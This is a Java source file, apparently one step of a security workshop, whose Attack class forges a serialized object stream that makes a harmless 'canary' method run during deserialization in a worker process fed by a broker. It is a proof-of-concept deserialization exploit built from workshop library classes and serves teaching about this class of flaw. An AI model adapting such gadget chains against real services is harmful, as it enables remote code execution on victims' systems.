package workshop.step01;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import workshop.step01.library.Memo;
import workshop.step01.library.MethodCall;

/**
 * Your hat is black now. You can reach the broker, and you know what is on the worker's class path.
 */
public final class Attack {

    private Attack() {}

    /**
     * A native stream that makes {@link Canary#sing} run in whatever process reads it: during
     * {@code readObject}, before any cast can look at the result. It contains only classes that the
     * worker has: the JDK's, and those of {@code workshop.step01.library}.
     */
    public static byte[] forge() throws IOException {
        var trap = new java.util.ArrayList<Object>();
        trap.add(new Memo(new MethodCall(Canary.class, "sing")));

        var bytes = new ByteArrayOutputStream();
        try (var out = new ObjectOutputStream(bytes)) {
            out.writeObject(trap);
        }
        return bytes.toByteArray();
    }
}
